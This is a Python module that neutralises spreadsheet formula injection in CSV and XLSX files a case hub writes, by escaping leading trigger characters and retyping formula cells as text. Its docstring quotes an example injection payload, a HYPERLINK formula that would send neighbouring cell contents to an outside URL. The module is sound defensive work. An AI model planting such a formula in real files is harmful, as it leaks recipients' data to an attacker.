"""Case text written into CSV and XLSX files stays text, never a formula.

A spreadsheet program reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
formula. Case data comes from many units' systems, so a unit could put
``=HYPERLINK("http://…?"&A1)`` in a violation's facts and, through a file the hub writes
for another unit (a sink's file drop, the monthly report), make that unit's spreadsheet
send its neighbouring cells away (CSV or formula injection). Every file the hub writes
for people passes its cells through here.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

__all__ = ["inert_text", "make_formulas_inert"]

#: What makes a spreadsheet program read a cell as a formula (tab and carriage return
#: too: some programs strip them and read what follows).
_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
#: A signed number is data, not a formula, and keeps its sign ("-5", "+3.5").
_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?")


def inert_text(value: Any) -> Any:
    """``value`` for a CSV cell: text a program would run as a formula gets a leading
    apostrophe (the spreadsheet convention for "this is text"); anything else as is."""
    if (isinstance(value, str) and value.startswith(_TRIGGERS)
            and _NUMBER.fullmatch(value) is None):
        return "'" + value
    return value


def make_formulas_inert(cells: Iterable[Any]) -> None:
    """Turn openpyxl cells that took a string as a formula back into text cells: the
    XLSX keeps the exact text, typed as a string, so no program evaluates it."""
    for cell in cells:
        if getattr(cell, "data_type", None) == "f":
            cell.data_type = "s"
